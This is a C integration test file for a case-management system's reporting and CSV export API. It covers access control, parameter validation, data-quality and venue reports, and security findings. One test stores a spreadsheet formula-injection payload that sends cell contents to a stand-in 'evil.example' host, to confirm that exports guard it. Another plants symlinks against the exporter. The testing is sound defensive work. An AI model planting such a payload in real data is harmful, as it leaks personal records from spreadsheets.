    expect_at(j, "checks.missing_nhs_number.count", "3", "alice dq");
    expect_at(j, "checks.baselines_without_review.count", "0", "alice dq");
    json_decref(j);
    j = get_ok(MGR, "/api/reports/data-quality?from=2026-08-01&to=2026-08-31");
    expect_at(j, "checks.contacts_without_topic.count", "1", "august");
    expect_at(j, "checks.incomplete_measures.count", "1", "august");
    json_decref(j);
    j = get_ok(MGR, "/api/reports/data-quality?from=2026-09-01&to=2026-09-30");
    expect_at(j, "checks.contacts_without_topic.count", "0", "september");
    json_decref(j);
    expect_error(BOB, "/api/reports/data-quality?team=prestwich", 403, "team");
    expect_error(MGR, "/api/reports/data-quality?weeks=0", 400, "weeks");
    expect_error(MGR, "/api/reports/data-quality?from=2026-08-01", 400, "to");
}

static void test_extract(void **state)
{
    (void)state;
    char dir[600], out[2048], path[700];
    snprintf(dir, sizeof(dir), "%s-extract", G.data);
    const char *args[] = {"export", "extract", "--data", G.data, "--out", dir, NULL};
    int st = cbt_run(args, NULL, out, sizeof(out));
    if (st != 0 || !strstr(out, "wrote 17 tables")) {
        fail_msg("extract: %d %s", st, out);
    }
    snprintf(path, sizeof(path), "%s/users.csv", dir);
    char *users_csv = read_file(path, NULL);
    assert_non_null(users_csv);
    assert_null(strstr(users_csv, "password"));
    assert_null(strstr(users_csv, "pbkdf2"));
    assert_true(strncmp(users_csv, "id,username,display_name,role,team,disabled,", 44) == 0);
    free(users_csv);
    snprintf(path, sizeof(path), "%s/sessions.csv", dir);
    assert_null(read_file(path, NULL));
    snprintf(path, sizeof(path), "%s/participants.csv", dir);
    char *p = read_file(path, NULL);
    assert_non_null(p);
    int lines = 0;
    for (char *q = p; (q = strstr(q, "\r\n")) != NULL; q += 2) {
        lines++;
    }
    assert_int_equal(lines, 9); /* header + 8 people */
    assert_non_null(strstr(p, ",Able,1990-10-01,9990000018,BL9 0EJ,prestwich,"));
    free(p);
    struct stat sb;
    assert_int_equal(stat(path, &sb), 0);
    assert_int_equal(sb.st_mode & 0777, 0600);
    snprintf(path, sizeof(path), "%s/manifest.csv", dir);
    char *m = read_file(path, NULL);
    assert_non_null(m);
    assert_non_null(strstr(m, "\r\nparticipants.csv,8,"));
    assert_non_null(strstr(m, "\r\nimd.csv,4,"));
    free(m);
    snprintf(path, sizeof(path), "%s/imd.csv", dir);
    char *i = read_file(path, NULL);
    assert_non_null(i);
    assert_string_equal(i, "postcode,decile\r\nBL9 0EJ,2\r\nBL9 7AB,1\r\nM25 1AA,8\r\nM26 "
                           "2AB,5\r\n");
    free(i);
}

/* The venue summary matches the outcomes report with venue= for every venue it lists. */
static void venues_match_outcomes(int who, const char *query)
{
    char path[512];
    snprintf(path, sizeof(path), "/api/reports/venues?%s", query);
    json_t *j = get_ok(who, path);
    json_t *items = json_object_get(j, "items");
    assert_int_equal(json_array_size(items), 2);
    size_t i;
    json_t *it;
    json_array_foreach(items, i, it)
    {
        char what[600];
        snprintf(path, sizeof(path), "/api/reports/outcomes?%s&venue=%s", query,
                 json_string_value(json_object_get(it, "venue")));
        snprintf(what, sizeof(what), "venue summary vs %s", path);
        json_t *o = get_ok(who, path);
        char want[3][32];
        snprintf(want[0], sizeof(want[0]), "%lld",
                 (long long)json_integer_value(at(o, "total.people_seen")));
        snprintf(want[1], sizeof(want[1]), "%lld",
                 (long long)json_integer_value(at(o, "total.contacts.total")));
        snprintf(want[2], sizeof(want[2]), "%lld",
                 (long long)json_integer_value(at(o, "total.contacts.dna")));
        expect_at(it, "people_seen", want[0], what);
        expect_at(it, "contacts", want[1], what);
        expect_at(it, "dna", want[2], what);
        json_decref(o);
    }
    json_decref(j);
}

static void test_venues(void **state)
{
    (void)state;
    /* By hand: V1 Longfield - Able, Baker, Drew, Fox, one contact each; V2 Sedgley - Cole's
     * group contact and Ely's drop-in, plus PR1's sessions there (Cole, Gale attended). */
    json_t *j = get_ok(MGR, "/api/reports/venues?" Q3);
    static const struct kv all[] = {
        {"period.from", "\"2026-07-01\""},
        {"period.to", "\"2026-09-30\""},
        {"team", "null"},
        {"items.[Longfield].people_seen", "4"},
        {"items.[Longfield].contacts", "4"},
        {"items.[Longfield].dna", "0"},
        {"items.[Longfield].team", "\"prestwich\""},
        {"items.[Sedgley].people_seen", "3"},
        {"items.[Sedgley].contacts", "2"},
        {"items.[Sedgley].dna", "0"},
    };
    /* at() picks array items by "key": give each item its name as key for the lookup */
    size_t i;
    json_t *it;
    json_array_foreach(json_object_get(j, "items"), i, it)
    {
        json_object_set(it, "key", json_object_get(it, "name"));
    }
    expect_all(j, all, sizeof(all) / sizeof(all[0]), "venues Q3");
    assert_string_equal(
        json_string_value(json_object_get(json_array_get(json_object_get(j, "items"), 0), "venue")),
        G.v1);
    json_decref(j);

    /* The same rules as outcomes with venue=, for every team and role scope. */
    venues_match_outcomes(MGR, Q3);
    venues_match_outcomes(MGR, Q3 "&team=prestwich");
    venues_match_outcomes(MGR, Q3 "&team=radcliffe");
    venues_match_outcomes(MGR, "from=2026-08-20&to=2026-08-20");
    venues_match_outcomes(ALICE, Q3);
    venues_match_outcomes(BOB, Q3);
    j = get_ok(BOB, "/api/reports/venues?" Q3);
    expect_at(j, "team", "\"radcliffe\"", "bob's scope");
    json_decref(j);

    expect_error(ADM, "/api/reports/venues?" Q3, 403, NULL);
    expect_error(ALICE, "/api/reports/venues?" Q3 "&team=radcliffe", 403, "team");
    expect_error(MGR, "/api/reports/venues", 400, "from");
    expect_error(MGR, "/api/reports/venues?" Q3 "&venue=x", 400, "venue");
    expect_error(MGR, "/api/reports/venues?" Q3 "&team=nowhere", 400, "team");
}

static void test_access_and_params(void **state)
{
    (void)state;
    expect_error(ALICE, "/api/reports/outcomes?" Q3 "&team=radcliffe", 403, "team");
    expect_error(LENA, "/api/reports/reach?" Q3 "&split=sex&team=radcliffe", 403, "team");
    expect_error(ADM, "/api/reports/outcomes?" Q3, 403, NULL);
    expect_error(ADM, "/api/reports/reach?" Q3 "&split=sex", 403, NULL);
    expect_error(ADM, "/api/reports/data-quality", 403, NULL);
    expect_error(MGR, "/api/reports/outcomes", 400, "from");
    expect_error(MGR, "/api/reports/outcomes?from=2026-07-01", 400, "to");
    expect_error(MGR, "/api/reports/outcomes?from=2026-07-01&to=2026-02-30", 400, "to");
    expect_error(MGR, "/api/reports/outcomes?from=2026-09-01&to=2026-07-01", 400, "to");
    expect_error(MGR, "/api/reports/outcomes?" Q3 "&split=shoe_size", 400, "split");
    expect_error(MGR, "/api/reports/outcomes?" Q3 "&cohort=students", 400, "cohort");
    expect_error(MGR, "/api/reports/outcomes?" Q3 "&topic=knitting", 400, "topic");
    expect_error(MGR, "/api/reports/outcomes?" Q3 "&venue=not-an-id", 400, "venue");
    expect_error(MGR, "/api/reports/outcomes?" Q3 "&venue=01234567-89ab-7def-8123-456789abcdef",
                 400, "venue");
    expect_error(MGR, "/api/reports/outcomes?" Q3 "&team=nowhere", 400, "team");
    expect_error(MGR, "/api/reports/outcomes?" Q3 "&teem=prestwich", 400, "teem");
    expect_error(MGR, "/api/reports/outcomes?" Q3 "&ids=1", 400, "ids");
    char path[300];
    snprintf(path, sizeof(path), "/api/reports/outcomes?" Q3 "&programme=%s", G.prog);
    expect_error(BOB, path, 400, "programme"); /* another team's programme is unknown to bob */

    struct cbt_client anon;
    cbt_client_init(&anon, G.srv.url);
    struct cbt_resp r;
    rq(&anon, "GET", "/api/reports/outcomes?" Q3, NULL, &r);
    expect_status(&r, 401, "anonymous");
    cbt_resp_free(&r);
    rq(&anon, "GET", "/api/exports/quarterly.csv?quarter=2026Q3", NULL, &r);
    expect_status(&r, 401, "anonymous csv");
    cbt_resp_free(&r);
    cbt_client_free(&anon);

    /* writes are not routes here */
    rq(&G.c[MGR], "POST", "/api/reports/outcomes?" Q3, "{}", &r);
    expect_status(&r, 405, "POST");
    cbt_resp_free(&r);
}

/*
 * Finding F8: the role is checked before any parameter.  A caller whose role may
 * never run a report gets 403 whatever the query (missing, malformed, unknown or
 * over-long parameters); a manager gets the 400 naming the bad field.
 */
static void test_role_before_params(void **state)
{
    (void)state;
    static const char *const csv_queries[] = {
        "",
        "?quarter=2026Q3",
        "?quarter=2026Q5",
        "?quarter=banana&team=nowhere",
        "?team=prestwich",
        "?qaurter=2026Q3",
        "?quarter=2026Q3xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx",
    };
    static const char *const manager_only[] = {
        "/api/reports/outcomes/records",
        "/api/reports/outcomes/records?" Q3,
        "/api/reports/outcomes/records?" Q3 "&figure=nonsense",
        "/api/reports/outcomes/records?from=yesterday&limit=-1",
        "/api/reports/outcomes/records?bogus=1",
    };
    static const char *const team_reports[] = {
        "/api/reports/outcomes",
        "/api/reports/outcomes?from=2026-07-01",
        "/api/reports/outcomes?" Q3 "&split=shoe_size",
        "/api/reports/reach?" Q3,
        "/api/reports/reach?bogus=1",
        "/api/reports/data-quality?weeks=0",
        "/api/reports/data-quality?bogus=1",
    };
    char path[300];
    for (size_t i = 0; i < sizeof(csv_queries) / sizeof(csv_queries[0]); i++) {
        snprintf(path, sizeof(path), "/api/exports/quarterly.csv%s", csv_queries[i]);
        expect_error(ALICE, path, 403, NULL);
        expect_error(LENA, path, 403, NULL);
        expect_error(BOB, path, 403, NULL);
        expect_error(ADM, path, 403, NULL);
    }
    for (size_t i = 0; i < sizeof(manager_only) / sizeof(manager_only[0]); i++) {
        expect_error(ALICE, manager_only[i], 403, NULL);
        expect_error(LENA, manager_only[i], 403, NULL);
        expect_error(ADM, manager_only[i], 403, NULL);
    }
    for (size_t i = 0; i < sizeof(team_reports) / sizeof(team_reports[0]); i++) {
        expect_error(ADM, team_reports[i], 403, NULL);
    }

    /* a role that may run the report gets the parameter errors, naming the field */
    expect_error(MGR, "/api/exports/quarterly.csv", 400, "quarter");
    expect_error(MGR, "/api/exports/quarterly.csv?quarter=2026Q5", 400, "quarter");
    expect_error(MGR, "/api/exports/quarterly.csv?quarter=banana", 400, "quarter");
    expect_error(MGR, "/api/exports/quarterly.csv?qaurter=2026Q3", 400, "qaurter");
    expect_error(MGR, "/api/exports/quarterly.csv?quarter=2026Q3&team=nowhere", 400, "team");
    expect_error(MGR, "/api/reports/outcomes/records?" Q3, 400, "figure");
    expect_error(MGR, "/api/reports/outcomes/records?bogus=1", 400, "bogus");
    expect_error(ALICE, "/api/reports/outcomes?from=2026-07-01", 400, "to");
    expect_error(ALICE, "/api/reports/reach?bogus=1", 400, "bogus");
    expect_error(LENA, "/api/reports/data-quality?weeks=0", 400, "weeks");
}

/* ---------------------------------- review findings (run last: they add data) */

/* Run one SQL statement with an optional text ?1 on the data directory's store. */
static void store_exec(const char *sql, const char *arg)
{
    struct cb_store *s;
    struct cb_conn *c;
    sqlite3_stmt *st;
    assert_int_equal(cb_store_open(G.data, &s), 0);
    assert_int_equal(cb_store_conn(s, &c), 0);
    assert_int_equal(sqlite3_prepare_v2(cb_conn_db(c), sql, -1, &st, NULL), SQLITE_OK);
    if (arg) {
        sqlite3_bind_text(st, 1, arg, -1, SQLITE_TRANSIENT);
    }
    assert_int_equal(sqlite3_step(st), SQLITE_DONE);
    sqlite3_finalize(st);
    cb_store_close(s);
}

/*
 * 1 if every cell of the CSV text that a spreadsheet would run as a formula
 * (starting with = + - @ TAB or CR) is a plain number; else 0 with the first
 * such cell in bad.
 */
static int csv_cells_safe(const char *csv, char *bad, size_t badlen)
{
    const char *p = csv;
    while (*p) {
        char cell[1024];
        size_t n = 0;
        if (*p == '"') {
            for (p++; *p && !(*p == '"' && p[1] != '"'); p++) {
                if (*p == '"') {
                    p++; /* a doubled quote */
                }
                if (n + 1 < sizeof(cell)) {
                    cell[n++] = *p;
                }
            }
            p += *p == '"';
        } else {
            for (; *p && *p != ',' && *p != '\r' && *p != '\n'; p++) {
                if (n + 1 < sizeof(cell)) {
                    cell[n++] = *p;
                }
            }
        }
        cell[n] = '\0';
        if (strchr("=+-@\t\r", cell[0]) && cell[0]) {
            char *end;
            (void)strtod(cell, &end);
            if (end == cell || *end) {
                snprintf(bad, badlen, "%s", cell);
                return 0;
            }
        }
        p += *p == ',' ? 1 : (*p == '\r' && p[1] == '\n') ? 2 : (*p != '\0');
    }
    return 1;
}

/*
 * Finding F19: every text cell of the extract and of the quarterly return is
 * guarded, not only free text: an e-mail address, a phone number and an
 * admin-chosen team id get the leading apostrophe too.
 */
static void test_csv_formula_guard(void **state)
{
    (void)state;
    static const char evil[] = "=HYPERLINK(\"http://evil.example/@x.co?\"&B2&C2)";
    char id[40];
    post(ALICE, "/api/participants",
         json_pack("{s:s, s:s, s:s, s:s, s:s}", "given_name", "Fenella", "family_name", "Formula",
                   "date_of_birth", "1980-04-04", "email", evil, "phone", "+447700900123"),
         id);
    struct cb_store *s;
    struct cb_conn *c;
    struct cb_field_error fe;
    memset(&fe, 0, sizeof(fe));
    assert_int_equal(cb_store_open(G.data, &s), 0);
    assert_int_equal(cb_store_conn(s, &c), 0);
    assert_int_equal(cb_team_add(c, "-dash", "Dash", &fe), CB_OK);
    cb_store_close(s);

    char dir[600], out[2048], path[700];
    snprintf(dir, sizeof(dir), "%s-extract-f19", G.data);
    const char *args[] = {"export", "extract", "--data", G.data, "--out", dir, NULL};
    int st = cbt_run(args, NULL, out, sizeof(out));
    if (st != 0) {
        fail_msg("extract: %d %s", st, out);
    }
    snprintf(path, sizeof(path), "%s/participants.csv", dir);
    char *p = read_file(path, NULL);
    assert_non_null(p);
    if (!strstr(p, ",'+447700900123,\"'=HYPERLINK(\"\"http://evil.example/@x.co?\"\"&B2&C2)\",")) {
        fail_msg("participants.csv: the phone and e-mail are not guarded:\n%s", p);
    }
    free(p);
    snprintf(path, sizeof(path), "%s/teams.csv", dir);
    p = read_file(path, NULL);
    assert_non_null(p);
    assert_non_null(strstr(p, "\r\n'-dash,Dash,"));
    free(p);
    static const char *const files[] = {
        "teams",      "venues",     "users",        "participants", "consents",   "encounters",
        "measures",   "goals",      "goal_reviews", "referrals",    "programmes", "group_sessions",
        "enrolments", "attendance", "checkins",     "imd",          "population", "manifest"};
    for (size_t i = 0; i < sizeof(files) / sizeof(files[0]); i++) {
        char bad[1024];
        snprintf(path, sizeof(path), "%s/%s.csv", dir, files[i]);
        p = read_file(path, NULL);
        assert_non_null(p);
        if (!csv_cells_safe(p, bad, sizeof(bad))) {
            fail_msg("%s.csv: the cell [%s] would run as a formula", files[i], bad);
        }
        free(p);
    }
    cbt_rmtree(dir);

    struct cbt_resp r;
    rq(&G.c[MGR], "GET", "/api/exports/quarterly.csv?quarter=2026Q3&team=-dash", NULL, &r);
    expect_status(&r, 200, "quarterly -dash");
    if (!strstr(r.body, "\r\n2026Q3,2026-07-01,2026-09-30,'-dash,total,all,0,0\r\n")) {
        fail_msg("quarterly CSV: the team id is not guarded:\n%s", r.body);
    }
    cbt_resp_free(&r);
}

/*
 * Finding F20: the people behind a figure keep a name of 100 characters whole
 * (100 two-byte characters; "Z" and 99 four-byte ones, 397 bytes, which a
 * 101-byte buffer cut mid-character and so dropped the person), and the list
 * is as long as count.
 */
static void test_records_long_names(void **state)
{
    (void)state;
    char given[201], family[401] = "Z";
    for (int i = 0; i < 100; i++) {
        memcpy(given + 2 * i, "\xc3\xa9", 3); /* é */
    }
    for (int i = 0; i < 99; i++) {
        memcpy(family + 1 + 4 * i, "\xf0\x9d\x92\x9c", 5); /* U+1D49C, script A */
    }
    person(ALICE, 0, given, family, "1970-02-02", json_object());
    contact(ALICE, 0, "one_to_one", "2025-03-10T10:00:00Z", NULL, NULL);
    json_t *j = get_ok(MGR, "/api/reports/outcomes/records?from=2025-03-01&to=2025-03-31"
                            "&figure=people_seen");
    expect_at(j, "count", "1", "long names");
    expect_at(j, "truncated", "false", "long names");
    json_t *items = json_object_get(j, "items");
    if (json_array_size(items) != 1) {
        fail_msg("long names: count 1 but %zu items", json_array_size(items));
    }
    json_t *it = json_array_get(items, 0);
    assert_string_equal(json_string_value(json_object_get(it, "given_name")), given);
    assert_string_equal(json_string_value(json_object_get(it, "family_name")), family);
    assert_string_equal(json_string_value(json_object_get(it, "id")), G.p[0]);
    json_decref(j);
}

/*
 * Finding F22: the exports do not follow a symbolic link planted in the output
 * directory (NAME.csv.tmp, manifest.csv, or the quarterly FILE.tmp): the file it
 * points at is untouched and the export is written whole.
 */
static void test_export_planted_links(void **state)
{
    (void)state;
    char dir[600], victim[600], link[700], out[2048];
    snprintf(dir, sizeof(dir), "%s-extract-f22", G.data);
    snprintf(victim, sizeof(victim), "%s-victim", G.data);
    FILE *f = fopen(victim, "wb");
    assert_non_null(f);
    fputs("precious\n", f);
    fclose(f);
    assert_int_equal(mkdir(dir, 0700), 0);
    static const char *const planted[] = {"participants.csv.tmp", "manifest.csv.tmp",
                                          "manifest.csv", "teams.csv"};
    for (size_t i = 0; i < sizeof(planted) / sizeof(planted[0]); i++) {
        snprintf(link, sizeof(link), "%s/%s", dir, planted[i]);
        assert_int_equal(symlink(victim, link), 0);
    }
    const char *args[] = {"export", "extract", "--data", G.data, "--out", dir, NULL};
    int st = cbt_run(args, NULL, out, sizeof(out));
    if (st != 0 || !strstr(out, "wrote 17 tables")) {
        fail_msg("extract with planted links: %d %s", st, out);
    }
    char *v = read_file(victim, NULL);
    assert_non_null(v);
    assert_string_equal(v, "precious\n");
    free(v);
    struct stat sb;
    static const char *const written[] = {"participants.csv", "manifest.csv", "teams.csv"};
    for (size_t i = 0; i < sizeof(written) / sizeof(written[0]); i++) {
        snprintf(link, sizeof(link), "%s/%s", dir, written[i]);
        assert_int_equal(lstat(link, &sb), 0);
        assert_true(S_ISREG(sb.st_mode));
        assert_int_equal(sb.st_mode & 0777, 0600);
    }
    for (size_t i = 0; i < 2; i++) {
        snprintf(link, sizeof(link), "%s/%s", dir, planted[i]);
        assert_int_equal(lstat(link, &sb), -1); /* renamed into place */
    }
    snprintf(link, sizeof(link), "%s/participants.csv", dir);
    char *p = read_file(link, NULL);
    assert_non_null(p);
    assert_true(strncmp(p, "id,given_name,family_name,", 26) == 0);
    assert_non_null(strstr(p, ",Able,1990-10-01,9990000018,BL9 0EJ,prestwich,"));
    free(p);
    snprintf(link, sizeof(link), "%s/manifest.csv", dir);
    p = read_file(link, NULL);
    assert_non_null(p);
    assert_true(strncmp(p, "file,rows,extracted_at,schema_version\r\n", 39) == 0);
    assert_non_null(strstr(p, "\r\nparticipants.csv,"));
    free(p);
    cbt_rmtree(dir);

    /* the quarterly return's --out FILE: FILE.tmp planted */
    char qpath[600];
    snprintf(qpath, sizeof(qpath), "%s-q19.csv", G.data);
    snprintf(link, sizeof(link), "%s.tmp", qpath);
    assert_int_equal(symlink(victim, link), 0);
    const char *qargs[] = {"export", "quarterly", "--data", G.data, "--quarter",
                           "2026Q3", "--out",     qpath,    NULL};
    st = cbt_run(qargs, NULL, out, sizeof(out));
    if (st != 0) {
        fail_msg("quarterly with a planted link: %d %s", st, out);
    }
    v = read_file(victim, NULL);
    assert_non_null(v);
    assert_string_equal(v, "precious\n");
    free(v);
    p = read_file(qpath, NULL);
    assert_non_null(p);
    assert_non_null(strstr(p, "\r\n2026Q3,2026-07-01,2026-09-30,all,total,all,8,5\r\n"));
    free(p);
    assert_int_equal(lstat(link, &sb), -1);
    remove(qpath);
    remove(victim);
}

/*
 * Finding F23: a coach whose account has no team (made directly in the store:
 * the account commands refuse it) is refused the team reports, rather than
 * being given every team.
 */
static void test_teamless_coach_refused(void **state)
{
    (void)state;
    store_exec("UPDATE users SET team = NULL WHERE username = ?1", "bob");
    expect_error(BOB, "/api/reports/outcomes?" Q3, 403, "team");
    expect_error(BOB, "/api/reports/reach?" Q3 "&split=sex", 403, "team");
    expect_error(BOB, "/api/reports/data-quality", 403, "team");
    expect_error(BOB, "/api/reports/venues?" Q3, 403, "team");
    expect_error(BOB, "/api/reports/outcomes?" Q3 "&team=radcliffe", 403, "team");
    store_exec("UPDATE users SET team = 'radcliffe' WHERE username = ?1", "bob");
    json_t *j = get_ok(BOB, "/api/reports/outcomes?" Q3);
    expect_at(j, "filters.team", "\"radcliffe\"", "bob with his team back");
    json_decref(j);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_seed),
        cmocka_unit_test(test_outcomes_total),
        cmocka_unit_test(test_outcomes_team),
        cmocka_unit_test(test_outcomes_splits),
        cmocka_unit_test(test_outcomes_filters),
        cmocka_unit_test(test_suppression),
        cmocka_unit_test(test_records),
        cmocka_unit_test(test_reach),
        cmocka_unit_test(test_imd_import),
        cmocka_unit_test(test_quarterly_csv),
        cmocka_unit_test(test_data_quality),
        cmocka_unit_test(test_extract),
        cmocka_unit_test(test_venues),
        cmocka_unit_test(test_access_and_params),
        cmocka_unit_test(test_role_before_params),
        cmocka_unit_test(test_csv_formula_guard),
        cmocka_unit_test(test_records_long_names),
        cmocka_unit_test(test_export_planted_links),
        cmocka_unit_test(test_teamless_coach_refused),
    };
    return cmocka_run_group_tests_name("it_reports", tests, group_setup, group_teardown);
}
